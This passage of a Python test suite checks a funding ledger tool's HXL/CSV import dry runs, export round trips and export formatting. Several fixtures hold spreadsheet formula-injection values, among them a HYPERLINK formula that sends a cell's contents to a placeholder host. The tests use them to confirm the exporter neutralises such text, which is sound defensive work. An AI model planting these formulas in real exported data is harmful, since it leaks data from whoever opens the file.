        return [self.cc(*c).stdout for c in (("balance", "--prefix", "", "--json"),
                                              ("unit", "list", "--json"),
                                              ("party", "list", "--json"), ("verify",))]

    def test_a_dry_run_says_what_an_import_would_record_and_records_nothing(self):
        path = self.write("funding.csv", FUNDING)
        before = self.ledger()
        r = self.cc("import", "hxl", path, "--dry-run", "--json")
        self.assertEqual(r.returncode, 0, r.stderr)
        dry = json.loads(r.stdout)
        self.assertIs(dry.pop("dry_run"), True)
        self.assertEqual(dry["recorded"], 5)
        self.assertEqual(self.ledger(), before, "a dry run records nothing, not even an event")
        r = self.cc("import", "hxl", path, "--dry-run")
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertTrue(r.stdout.startswith("dry run: nothing was recorded"), r.stdout)
        r = self.cc("import", "hxl", path, "--dry-run", "--check")
        self.assertEqual(r.returncode, 2)
        self.assertIn("not both", r.stderr)
        # The import itself then records exactly what the dry run said.
        self.assertEqual(self.imported(path), dry)

    def test_a_dry_run_over_http_records_nothing(self):
        import test_force  # its Server runs `concord serve` on a port the OS picks
        test_force.CONCORD = CONCORD
        r = self.cc("token", "create", "--user", "cora", "--role", "coordinator", "--json")
        self.assertEqual(r.returncode, 0, r.stderr)
        token = json.loads(r.stdout)["token"]
        body = FUNDING.encode()
        server = test_force.Server(self.db)
        try:
            def post(query):
                return server.request("POST", "/v1/import/hxl" + query, token, body, "text/csv")

            before = self.ledger()
            status, dry = post("?dry_run=true")
            self.assertEqual(status, 200, dry)
            self.assertIs(dry.pop("dry_run"), True)
            for query in ("?dry_run", "?dry_run=", "?dry_run=yes", "?dry_run=TRUE"):
                status, error = post(query)
                self.assertEqual(status, 400, (query, error))
                self.assertIn("dry_run", error["error"]["message"])
            self.assertEqual(self.ledger(), before)
            status, summary = post("?dry_run=false")
            self.assertEqual(status, 200, summary)
            self.assertEqual(summary, dry)
            self.assertNotEqual(self.ledger(), before)
            # A table with 60 bad amounts: every problem the command prints, in the answer.
            bad = "#value+usd,#org+name+funder,#org+name+impl,#date\n" + "".join(
                "lots%d,A,B,2021-01-01\n" % i for i in range(60))
            status, error = server.request("POST", "/v1/import/hxl", token, bad.encode(),
                                           "text/csv")
            self.assertEqual((status, error["error"]["code"]), (400, "bad_request"), error)
            self.assertEqual(len(error["error"]["problems"]), 50)
            self.assertEqual(error["error"]["more"], 10)
            self.assertIn('row 2, column 1 (#value+usd): "lots0"', error["error"]["problems"][0])
            self.assertIn('"lots49"', error["error"]["problems"][49])
            cli = self.cc("import", "hxl", self.write("bad.csv", bad))
            self.assertEqual(cli.returncode, 2)
            for problem in error["error"]["problems"]:
                self.assertIn(problem.replace("the body", "bad.csv"), cli.stderr)
        finally:
            rc = server.stop()
        self.assertEqual(rc, 0, server.stderr())

    def test_the_audit_log_replays_the_import(self):
        self.imported(self.write("funding.csv", FUNDING))
        self.imported(fts("fts_internal_funding_jor.csv"))
        r = self.cc("verify")
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertEqual(self.cc("check").returncode, 0)


# ------------------------------------------------------------------ an export imported back


def one_flow_answer(flow, **changes):
    """An FTS answer of one page holding one flow, changed as given."""
    f = json.loads(json.dumps(flow))
    f.update(changes)
    return {"status": 200, "data": {"flows": [f]}, "meta": {"count": 1}}


GUARDED = (
    "Who gave,Who got,USD,Stage,When,What,Code\r\n"
    "#org+funder,#org+impl,#value+usd,#status,#date,#description+notes,#activity+code\r\n"
    "Sweden,UNICEF,1,paid,2021-01-01,=SUM(A1:A9),\r\n"
    "Sweden,UNICEF,2,paid,2021-01-02,-not a number,\r\n"
    "Sweden,UNICEF,3,pledge,2021-01-03,@someone,+44 20\r\n"
    "-Minus Org,UNICEF,4,commitment,2021-01-04,plain,\r\n"
    "Sweden,UNICEF,5,paid,2021-01-05,,REF-1\r\n"
    # The guard of text that itself begins with ' before a formula: the memo is '=….
    "Sweden,UNICEF,6,paid,2021-01-06,''=quoted formula,\r\n"
)


class RoundTrip(Base):
    """An HXL export imported back: into another ledger it records the same flows with the
    same figures, and into the same ledger it records nothing."""

    def other(self):
        """A second, fresh ledger beside this one."""
        other = RoundTrip("run")
        other.dir = self.dir
        other.db = os.path.join(self.dir.name, "other.db")
        r = other.cc("init")
        self.assertEqual(r.returncode, 0, r.stderr)
        return other

    def figures(self, ledger, prefix):
        balances = json.loads(ledger.cc("balance", "--prefix", prefix, "--json").stdout)
        accounts = {}
        for a in json.loads(ledger.cc("account", "list", "--json").stdout):
            if a["id"].startswith(prefix):
                b = json.loads(ledger.cc("balance", a["id"], "--json").stdout)[0]
                accounts[a["id"]] = {k: b[k] for k in ("debits_pending", "debits_posted",
                                                       "credits_pending", "credits_posted")}
        # The funding report, for the donors whose accounts are under the prefix.
        report = json.loads(ledger.cc("report", "funding", "--json").stdout)
        donors = {d["donor"]: (d["committed"], d["pledged"]) for d in report["by_donor"]
                  if any(a.startswith(d["donor"].replace("-", ".org.", 1) + ".")
                         for a in accounts)}
        return balances, accounts, donors

    def report_totals(self):
        totals = json.loads(self.cc("report", "funding", "--json").stdout)["totals"]
        return totals["committed"], totals["pledged"]

    def exported(self, prefix):
        r = self.cc("export", "hxl", "--what", "transfers", "--prefix", prefix)
        self.assertEqual(r.returncode, 0, r.stderr)
        return self.write(f"export-{prefix.strip('.')}.csv", r.stdout)

    def versions_ledger(self):
        """FTS flows, two of them edited: a payment paid 1,000 USD more, a pledge turned
        into a commitment. The paid flow's donor organisation id."""
        flows = fts_flows("jor")
        paid = next(f for f in flows.values() if f["amountUSD"] > 0 and f["status"] == "paid"
                    and f["boundary"] == "incoming" and f["onBoundary"] == "single"
                    and f["sourceObjects"][0]["type"] == "Organization")
        pledge = next(f for f in flows.values() if f["status"] == "pledge")
        answers = [one_flow_answer(paid), one_flow_answer(pledge),
                   one_flow_answer(paid, versionId=paid["versionId"] + 1,
                                   amountUSD=paid["amountUSD"] + 1000),
                   one_flow_answer(pledge, versionId=pledge["versionId"] + 1,
                                   status="commitment")]
        for n, answer in enumerate(answers):
            path = self.write(f"answer-{n}.json", json.dumps(answer))
            r = self.cc("import", "fts", path)
            self.assertEqual(r.returncode, 0, r.stderr)
        self.assertIsNotNone(self.transfer(f"fts.{paid['id']}.v{paid['versionId'] + 1}"
                                           ".supersedes"))
        return paid["sourceObjects"][0]["id"]

    def test_a_long_description_and_code_import_back_as_the_same_flow(self):
        # Recorded cut (2,048 and 128 bytes), so the row's id is a digest of the cut text:
        # the export, which gives back what was recorded, is the same flow.
        head = "#value+usd,#org+name+funder,#org+name+impl,#date,#description,#activity+code\n"
        row = "100,A,B,2021-01-01,%s,%s\n" % ("é" * 1025, "c" * 130)
        s = self.imported(self.write("long.csv", head + row))
        self.assertEqual(s["recorded"], 1)
        before = self.figures(self, "hxl.")
        path = self.write("back.csv", self.cc("export", "hxl", "--what", "transfers",
                                              "--prefix", "hxl").stdout)
        again = self.imported(path)
        self.assertEqual((again["recorded"], again["exists"]), (0, 1))
        self.assertEqual(self.figures(self, "hxl."), before)
        other = self.other()
        r = other.cc("import", "hxl", path, "--json")
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertEqual(self.transfer_ids(), other.transfer_ids())

    def test_an_fts_id_padded_with_zeros_is_the_same_flow_and_organisation(self):
        r = self.cc("import", "fts", *pages("afg"), "--json")
        self.assertEqual(r.returncode, 0, r.stderr)
        ids, balances = self.transfer_ids(), self.cc("balance", "--prefix", "fts.", "--json")
        _, rows, raw = self.export("hxl", "--what", "transfers", "--prefix", "fts.org.")
        header, tags = raw[0], raw[1]
        flow = next(r for r in rows if r["kind"] == "paid" and r["funder_fts_id"])
        padded = dict(flow, fts_flow="00" + flow["fts_flow"],
                      funder_fts_id="0" + flow["funder_fts_id"])
        text = "".join(",".join('"' + c.replace('"', '""') + '"' for c in line) + "\n"
                       for line in (header, tags, [padded[h] for h in header]))
        s = self.imported(self.write("padded.csv", text))
        self.assertEqual((s["recorded"], s["exists"]), (0, 1))
        self.assertEqual(self.transfer_ids(), ids)
        self.assertEqual(self.cc("balance", "--prefix", "fts.", "--json").stdout,
                         balances.stdout)

    def test_an_fts_organisation_without_a_name_keeps_its_money_on_the_way_back(self):
        answers = []
        for p in pages("afg"):
            with open(p, encoding="utf-8") as f:
                answers.append(json.load(f))
        flow = next(f for a in answers for f in a["data"]["flows"]
                    if f["status"] == "paid" and f["amountUSD"] > 0
                    and f["boundary"] == "incoming" and f["onBoundary"] == "single"
                    and any(o["type"] == "Organization" for o in f["sourceObjects"]))
        org = next(o for o in flow["sourceObjects"] if o["type"] == "Organization")
        org["name"] = None
        for n, answer in enumerate(answers):
            path = self.write(f"answer-{n}.json", json.dumps(answer))
        r = self.cc("import", "fts", *[os.path.join(self.dir.name, f"answer-{n}.json")
                                       for n in range(len(answers))])
        self.assertEqual(r.returncode, 0, r.stderr)
        path = self.exported("fts.org.")
        other = self.other()
        r = other.cc("import", "hxl", path, "--json")
        self.assertEqual(r.returncode, 0, r.stderr)
        account = "fts.org.%s.given" % org["id"]
        mine = json.loads(self.cc("balance", account, "--json").stdout)[0]
        theirs = json.loads(other.cc("balance", account, "--json").stdout)[0]
        self.assertEqual(theirs["debits_posted"], mine["debits_posted"])
        self.assertEqual(self.figures(other, "fts.org.")[0], self.figures(self, "fts.org.")[0])

    def test_pledges_posted_or_voided_come_back_so(self):
        # A pledge voided and one posted in the exporting ledger: the export's resolution
        # rows post and void them again, here and in another ledger, with the same figures.
        r = self.cc("import", "fts", *pages("jor"))
        self.assertEqual(r.returncode, 0, r.stderr)
        s = self.imported(self.write("p.csv", "#value+usd,#org+name+funder,#org+name+impl,"
                                     "#date,#status\n700,Sweden,WFP,2021-01-01,pledge\n"))
        pledge = next(i for i in self.transfer_ids() if i.startswith("hxl."))
        for args in (("void", "fts.226741.v1"), ("post", pledge)):
            r = self.cc(*args)
            self.assertEqual(r.returncode, 0, r.stderr)
        path = self.exported("")
        other = self.other()
        r = other.cc("import", "hxl", path, "--json")
        self.assertEqual(r.returncode, 0, r.stderr)
        s = json.loads(r.stdout)
        self.assertEqual(s["resolutions"], {"applied": 2, "exists": 0, "passed_over": 0})
        self.assertEqual(s["rejected"], [])
        totals = [json.loads(l.cc("report", "funding", "--json").stdout)["totals"]
                  for l in (self, other)]
        self.assertEqual(totals[0], totals[1])
        self.assertEqual(totals[0]["voided"], 8112800)
        self.assertEqual(other.transfer("fts.226741.v1.hxl")["state"], "voided")
        self.assertEqual(other.transfer(pledge)["state"], "posted")
        for ledger in (self, other):
            again = json.loads(ledger.cc("import", "hxl", path, "--json").stdout)
            self.assertEqual((again["recorded"], again["resolutions"]),
                             (0, {"applied": 0, "exists": 2, "passed_over": 0}))
            r = ledger.cc("verify")
            self.assertEqual(r.returncode, 0, r.stdout + r.stderr)
        # A record the ledger's rules made (an expiry, a decision) cannot be made again:
        # passed over, and said so.
        header, tags = parse_csv(open(path, encoding="utf-8").read())[:2]
        row = dict.fromkeys(header, "")
        row.update(id=pledge + "/expiry", pending_id=pledge, state="voided", amount_usd="7.00")
        text = "".join(",".join('"' + c + '"' for c in line) + "\n"
                       for line in (header, tags, [row[h] for h in header]))
        s = json.loads(other.cc("import", "hxl", other.write("e.csv", text), "--json").stdout)
        self.assertEqual(s["resolutions"], {"applied": 0, "exists": 0, "passed_over": 1})
        # A resolution without the columns that say what it is: refused by its row.
        r = other.cc("import", "hxl", other.write("n.csv", "#value+usd,#org+name+funder,"
                                                  "#org+name+impl,#date,#meta+id+pending\n"
                                                  "7,A,B,2021-01-01,p-1\n"))
        self.assertEqual(r.returncode, 2, r.stderr)
        self.assertIn("n.csv: row 2: a resolution (#meta+id+pending) needs its record's id",
                      r.stderr)

    def test_an_fts_export_with_superseded_versions_imports_back(self):
        donor = self.versions_ledger()
        for prefix in (f"fts.org.{donor}", "fts.org."):
            with self.subTest(prefix=prefix):
                path = self.exported(prefix)
                _, rows, _ = self.export("hxl", "--what", "transfers", "--prefix", prefix)
                flows = [r for r in rows if r["kind"] != "correction" and not r["pending_id"]]
                self.assertEqual(len(flows), len(rows) - sum(
                    r["id"].endswith(".supersedes") for r in rows))
                # Another ledger: the same flows, the same figures.
                other = self.other()
                r = other.cc("import", "hxl", path, "--json")
                self.assertEqual(r.returncode, 0, r.stderr)
                s = json.loads(r.stdout)
                self.assertEqual(s["rejected"], [])
                self.assertEqual(s["rows"], len(flows))
                self.assertEqual(s["corrections"], len(rows) - len(flows))
                self.assertEqual(self.figures(other, prefix), self.figures(self, prefix))
                if prefix == "fts.org.":
                    self.assertEqual(other.report_totals(), self.report_totals())
                # The same ledger: nothing new.
                ids, events = self.transfer_ids(), self.events()
                before = self.figures(self, prefix)
                again = self.imported(path)
                self.assertEqual((again["recorded"], again["exists"], again["rejected"]),
                                 (0, len(flows), []))
                self.assertEqual(self.transfer_ids(), ids)
                self.assertEqual(self.events(), events)
                self.assertEqual(self.figures(self, prefix), before)
                # And the other ledger's own export, into itself: nothing new either.
                r = other.cc("export", "hxl", "--what", "transfers", "--prefix", prefix)
                back = other.write("back.csv", r.stdout)
                twice = json.loads(other.cc("import", "hxl", back, "--json").stdout)
                self.assertEqual((twice["recorded"], twice["exists"]), (0, len(flows)))
                os.remove(other.db)

    def test_a_table_s_record_replaced_by_fts_s_own_imports_back(self):
        # The table first, then FTS's answer: the export gives both records of a version
        # (the table's, undone, and FTS's); FTS's is the flow, as in this ledger.
        self.imported(fts("fts_incoming_funding_jor.csv"))
        r = self.cc("import", "fts", *pages("jor"))
        self.assertEqual(r.returncode, 0, r.stderr)
        path = self.exported("fts.org.")
        _, rows, _ = self.export("hxl", "--what", "transfers", "--prefix", "fts.org.")
        ids = {row["id"] for row in rows}
        self.assertTrue(any(i.endswith(".hxl") and i[:-4] in ids for i in ids))
        other = self.other()
        r = other.cc("import", "hxl", path, "--json")
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertEqual(json.loads(r.stdout)["rejected"], [])

        def nets(ledger):
            out = {}
            for a in json.loads(ledger.cc("account", "list", "--json").stdout):
                if a["id"].startswith("fts.org."):
                    b = json.loads(ledger.cc("balance", a["id"], "--json").stdout)[0]
                    n = (b["credits_posted"] - b["debits_posted"],
                         b["credits_pending"] - b["debits_pending"])
                    if n != (0, 0):
                        out[a["id"]] = n
            return out

        self.assertEqual(nets(other), nets(self))
        self.assertEqual(other.report_totals(), self.report_totals())
        ids, events = self.transfer_ids(), self.events()
        again = self.imported(path)
        self.assertEqual((again["recorded"], again["rejected"]), (0, []))
        self.assertEqual((self.transfer_ids(), self.events()), (ids, events))

    def test_the_export_carries_each_flow_s_version(self):
        self.versions_ledger()
        header, rows, raw = self.export("hxl", "--what", "transfers")
        tags = dict(zip(header, raw[1]))
        self.assertEqual(tags["fts_version"], "#meta+version")
        for row in rows:
            if row["fts_flow"]:
                self.assertTrue(row["id"].startswith(
                    f"fts.{row['fts_flow']}.v{row['fts_version']}"), row)

    def test_a_guarded_export_imports_back(self):
        s = self.imported(self.write("guarded.csv", GUARDED))
        self.assertEqual((s["recorded"], cents(s["funding_usd"]), cents(s["pledges_usd"])),
                         (6, 1800, 300))
        self.assertIn("'=quoted formula",
                      {self.transfer(t).get("memo") for t in self.transfer_ids()})
        path = self.exported("hxl")
        _, rows, _ = self.export("hxl", "--what", "transfers", "--prefix", "hxl")
        memos = {r["memo"] for r in rows}
        self.assertTrue({"'=SUM(A1:A9)", "'-not a number", "'@someone", "''=quoted formula"}
                        <= memos, memos)
        self.assertIn("'-Minus Org", {r["funder"] for r in rows})
        ids, before = self.transfer_ids(), self.figures(self, "hxl")
        again = self.imported(path)
        self.assertEqual((again["rows"], again["recorded"], again["exists"]), (6, 0, 6))
        self.assertEqual(self.transfer_ids(), ids)
        self.assertEqual(self.figures(self, "hxl"), before)
        # Into another ledger: the same transfers, the text as the table gave it.
        other = self.other()
        r = other.cc("import", "hxl", path, "--json")
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertEqual(json.loads(r.stdout)["recorded"], 6)
        self.assertEqual(sorted(other.transfer_ids()), sorted(ids))
        self.assertEqual(self.figures(other, "hxl"), before)
        memo = {t: other.transfer(t).get("memo") for t in ids}
        self.assertEqual(memo, {t: self.transfer(t).get("memo") for t in ids})

    def test_a_hand_written_quote_is_kept(self):
        # Only the export's own guard is undone: a quote before other text stays.
        text = ("Who gave,Who got,USD,When,What\r\n"
                "#org+funder,#org+impl,#value+usd,#date,#description+notes\r\n"
                "Sweden,UNICEF,1,2021-01-01,'quoted'\r\n"
                "Sweden,UNICEF,2,2021-01-01,'=1+1\r\n")
        self.imported(self.write("quotes.csv", text))
        memos = sorted(self.transfer(t)["memo"] for t in self.transfer_ids())
        self.assertEqual(memos, ["'quoted'", "=1+1"])


# ------------------------------------------------------------------ exporting

MEMO = 'Pay, "as agreed"\nsecond line'


class Export(Base):
    def setUp(self):
        super().setUp()
        self.apply(
            {"op": "unit", "code": "USD", "scale": 2},
            {"op": "unit", "code": "PERSON", "scale": 0},
            {"op": "account", "id": "fund.pool", "unit": "USD"},
            {"op": "account", "id": "fund.spent", "unit": "USD"},
            {"op": "account", "id": "force.salaries", "unit": "USD", "name": "Salaries, force"},
            {"op": "account", "id": "people.a", "unit": "PERSON"},
            {"op": "account", "id": "people.b", "unit": "PERSON"},
            {"op": "donor", "id": "fr", "name": "France"},
            {"op": "transfer", "id": "t-1", "debit": "fund.pool", "credit": "force.salaries",
             "amount": 123450, "kind": "disbursement", "date": "2026-10-01", "memo": MEMO},
            {"op": "transfer", "id": "t-2", "debit": "people.a", "credit": "people.b",
             "amount": 300, "date": "2026-10-02"},
            {"op": "transfer", "id": "t-3", "debit": "force.salaries", "credit": "fund.spent",
             "amount": 5, "pending": True, "date": "2026-10-03"},
            {"op": "pledge", "id": "p-fr-1", "donor": "fr", "amount": 108690000,
             "currency": "EUR", "original_amount": 100000000, "rate": "1.0869",
             "date": "2026-10-04"},
            {"op": "requirement", "id": "salaries", "title": "Salaries, first year",
             "account": "force.salaries", "measure": "credits", "target": 1000000,
             "due": "2027-12-31"},
            {"op": "requirement", "id": "people", "account": "people.", "unit": "PERSON",
             "measure": "balance", "target": 1000},
        )

    def test_free_text_is_not_a_formula(self):
        # A memo or a name from elsewhere that a spreadsheet would run as a formula is
        # written after a quote; amounts, negative ones included, are written as they are.
        formula = '=HYPERLINK("http://example.invalid/?"&A1,"x")'
        self.apply({"op": "account", "id": "fund.other", "unit": "USD", "name": "@SUM(1)"},
                   {"op": "transfer", "id": "t-f", "debit": "fund.pool", "credit": "fund.other",
                    "amount": 7, "memo": formula})
        _, rows, _ = self.export("csv", "--what", "transfers")
        row = next(r for r in rows if r["id"] == "t-f")
        self.assertEqual(row["memo"], "'" + formula)
        self.assertEqual(row["amount"], "0.07")
        _, balances, _ = self.export("csv", "--what", "balances")
        other = next(r for r in balances if r["id"] == "fund.other")
        self.assertEqual(other["name"], "'@SUM(1)")
        pool = next(r for r in balances if r["id"] == "fund.pool")
        self.assertTrue(pool["net_posted"].startswith("-"), pool)
        self.assertRegex(pool["net_posted"], r"^-\d+\.\d\d$")  # a number, not quoted

    def test_an_id_or_a_kind_is_not_a_formula(self):
        # Ids and kinds are people's choice too: one a spreadsheet would run is quoted.
        self.apply({"op": "transfer", "id": "=1+2", "debit": "fund.pool", "credit": "fund.spent",
                    "amount": 9, "kind": "-2+3"},
                   {"op": "transfer", "id": "-x", "debit": "fund.pool", "credit": "fund.spent",
                    "amount": 4, "kind": "@now"})
        for form in ("csv", "hxl"):
            _, rows, _ = self.export(form, "--what", "transfers")
            ids = {r["id"]: r for r in rows}
            self.assertIn("'=1+2", ids, form)
            self.assertEqual(ids["'=1+2"]["kind"], "'-2+3")
            self.assertEqual(ids["'-x"]["kind"], "'@now")
            self.assertEqual(ids["'-x"]["amount"], "0.04")
            self.assertNotIn("=1+2", ids)

    def test_transfers_match_transfer_show(self):
        self.imported(fts("fts_internal_funding_jor.csv"))
        header, rows, _ = self.export("csv", "--what", "transfers")
        self.assertEqual(header[:10], ["id", "date", "debit", "credit", "unit", "amount", "kind",
                                       "state", "pending_id", "memo"])
        self.assertGreater(len(rows), 40)
        scales = {"USD": 2, "PERSON": 0}
        for row in rows:
            t = self.transfer(row["id"])
            self.assertIsNotNone(t, row["id"])
            for key in ("debit", "credit", "unit", "state", "date"):
                self.assertEqual(row[key], t[key], (row["id"], key))
            self.assertEqual(row["kind"], t.get("kind") or "")
            self.assertEqual(row["memo"], t.get("memo") or "")
            # Exactly the amount, as a decimal in the unit's scale.
            self.assertEqual(decimal.Decimal(row["amount"]) * 10 ** scales[t["unit"]],
                             t["amount"], row["id"])
            self.assertEqual(len(row["amount"].partition(".")[2]), scales[t["unit"]])
        self.assertEqual(len({r["id"] for r in rows}), len(rows))  # each transfer once
        t1 = next(r for r in rows if r["id"] == "t-1")
        self.assertEqual((t1["amount"], t1["memo"]), ("1234.50", MEMO))
        pledge = next(r for r in rows if r["id"] == "p-fr-1")
        self.assertEqual((pledge["funder"], pledge["amount_usd"], pledge["original_amount"],
                          pledge["currency"], pledge["rate"]),
                         ("France", "1086900.00", "1000000.00", "EUR", "1.0869"))
        flow = next(r for r in rows if r["fts_flow"])
        self.assertEqual(flow["id"], f"fts.{flow['fts_flow']}.v1.hxl")
        source = table_rows(fts("fts_internal_funding_jor.csv"))
        src = next(r for r in source if r["id"] == flow["fts_flow"])
        self.assertEqual((flow["funder"], flow["recipient"], flow["amount_usd"],
                          flow["boundary"], flow["on_boundary"]),
                         (src["srcOrganization"], src["destOrganization"],
                          f"{int(src['amountUSD'])}.00", "internal", "single"))

    def test_rfc4180_line_ends_and_quoting(self):
        r = self.raw("export", "csv", "--what", "transfers")
        self.assertEqual(r.returncode, 0, r.stderr)
        out = r.stdout
        self.assertTrue(out.endswith(b"\r\n"))
        # Every line break outside a quoted cell is CRLF; the memo's own stays LF.
        quoted = '"' + MEMO.replace('"', '""') + '"'
        self.assertIn(quoted.encode(), out)
        outside = out.replace(quoted.encode(), b"")
        self.assertEqual(outside.count(b"\n"), outside.count(b"\r\n"))
        self.assertNotIn(b"\r\r", out)
        rows = parse_csv(out.decode())
        self.assertEqual(len({len(row) for row in rows}), 1)  # one width

    def test_hxl_adds_the_hashtag_row(self):
        header, rows, raw = self.export("hxl", "--what", "transfers")
        tags = dict(zip(header, raw[1]))
        self.assertEqual(tags["funder"], "#org+name+funder")
        self.assertEqual(tags["recipient"], "#org+name+impl")
        self.assertEqual(tags["amount_usd"], "#value+funding+total+usd")
        self.assertEqual(tags["original_amount"], "#value+funding+total")
        self.assertEqual(tags["currency"], "#value+funding+total+currency")
        self.assertEqual(tags["fts_flow"], "#activity+id+fts_internal")
        self.assertEqual(tags["date"], "#date")
        self.assertEqual(len(rows), 4)
        _, plain, raw_csv = self.export("csv", "--what", "transfers")
        self.assertEqual(plain, rows)
        self.assertNotIn("#meta+id", raw_csv[1])
        # The export reads back as an HXL table with the same cells.
        r = self.cc("import", "hxl", "-", "--check", "--json",
                    input=self.cc("export", "hxl", "--what", "transfers").stdout)
        self.assertEqual(r.returncode, 0, r.stderr)
        table = json.loads(r.stdout)
        self.assertEqual(table[0], header)
        self.assertEqual(table[2:], raw[2:])

    def test_balances_match_balance_json(self):
        header, rows, raw = self.export("hxl", "--what", "balances")
        self.assertEqual(raw[1][:4], ["#account+id", "#account+name", "#org+id", "#unit+code"])
        accounts = json.loads(self.cc("account", "list", "--json").stdout)
        self.assertEqual([r["id"] for r in rows], sorted(a["id"] for a in accounts))
        for row in rows:
            b = json.loads(self.cc("balance", row["id"], "--json").stdout)[0]
            scale = 2 if b["unit"] == "USD" else 0
            for key in ("debits_pending", "debits_posted", "credits_pending", "credits_posted"):
                self.assertEqual(decimal.Decimal(row[key]) * 10 ** scale, b[key], (row["id"], key))
            self.assertEqual(decimal.Decimal(row["net_posted"]) * 10 ** scale,
                             b["credits_posted"] - b["debits_posted"])
        salaries = next(r for r in rows if r["id"] == "force.salaries")
        self.assertEqual((salaries["name"], salaries["credits_posted"],
                          salaries["debits_pending"]), ("Salaries, force", "1234.50", "0.05"))
        donor = next(r for r in rows if r["id"] == "donor.fr")
        self.assertEqual(donor["owner"], "fr")

    def test_balances_as_of_a_date(self):
        _, rows, _ = self.export("csv", "--what", "balances", "--at", "2026-10-01")
        b = {r["id"]: r for r in rows}
        self.assertEqual(b["people.b"]["credits_posted"], "0")
        self.assertEqual(b["force.salaries"]["credits_posted"], "1234.50")

    def test_prefix(self):
        _, rows, _ = self.export("csv", "--what", "balances", "--prefix", "people")
        self.assertEqual([r["id"] for r in rows], ["people.a", "people.b"])
        _, rows, _ = self.export("csv", "--what", "transfers", "--prefix", "force")
        self.assertEqual([r["id"] for r in rows], ["t-1", "t-3"])
        _, rows, _ = self.export("csv", "--what", "transfers", "--prefix", "fund")
        self.assertEqual([r["id"] for r in rows], ["t-1", "t-3", "p-fr-1"])
        _, rows, _ = self.export("csv", "--what", "gaps", "--prefix", "people")
        self.assertEqual([r["id"] for r in rows], ["people"])

    def test_gaps_match_gaps_json(self):
        header, rows, raw = self.export("hxl", "--what", "gaps")
        gaps = json.loads(self.cc("gaps", "--json").stdout)
        self.assertEqual([r["id"] for r in rows], [g["id"] for g in gaps])
        tags = dict(zip(header, raw[1]))
        self.assertEqual(tags["id"], "#indicator+code")
        self.assertEqual(tags["gap"], "#indicator+num+gap")
        for row, g in zip(rows, gaps):
            scale = 2 if g["unit"] == "USD" else 0
            for key in ("target", "posted", "pending", "gap", "gap_if_pending_post"):
                self.assertEqual(decimal.Decimal(row[key]) * 10 ** scale, g[key], key)
            self.assertEqual(row["title"], g["title"] or "")
            self.assertEqual(row["due"], g["due"] or "")
        salaries = rows[0]
        self.assertEqual((salaries["target"], salaries["posted"], salaries["gap"],
                          salaries["account"], salaries["measure"]),
                         ("10000.00", "1234.50", "8765.50", "force.salaries", "credits"))

    def test_an_editor_exports_what_it_may_read(self):
        r = self.cc("token", "create", "--user", "ed", "--role", "editor", "--party", "fr",
                    "--json")
        self.assertEqual(r.returncode, 0, r.stderr)
        token = json.loads(r.stdout)["token"]
        r = self.cc("export", "csv", "--what", "balances", token=token)
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertEqual([row[0] for row in parse_csv(r.stdout)[1:]], ["donor.fr"])
        r = self.cc("export", "csv", "--what", "transfers", token=token)
        self.assertEqual([row[0] for row in parse_csv(r.stdout)[1:]], ["p-fr-1"])

    def test_usage(self):
        for args, message in ((["--what", "nothing"], "--what must be"),
                              ([], "--what transfers, balances or gaps is required"),
                              (["--what", "transfers", "--at", "2026-01-01"], "--at applies"),
                              (["--what", "gaps", "--at", "soon"], "--at must be a date"),
                              (["--what", "gaps", "extra"], "unexpected argument")):
            with self.subTest(args=args):
                r = self.cc("export", "csv", *args)
                self.assertEqual(r.returncode, 2)
                self.assertIn(message, r.stderr)


if __name__ == "__main__":
    if len(sys.argv) < 3:
        sys.exit("usage: test_hxl.py CONCORD_BINARY DATA_DIR [unittest arguments]")
    CONCORD = os.path.abspath(sys.argv[1])
    DATA = os.path.abspath(sys.argv[2])
    unittest.main(argv=[sys.argv[0]] + sys.argv[3:])
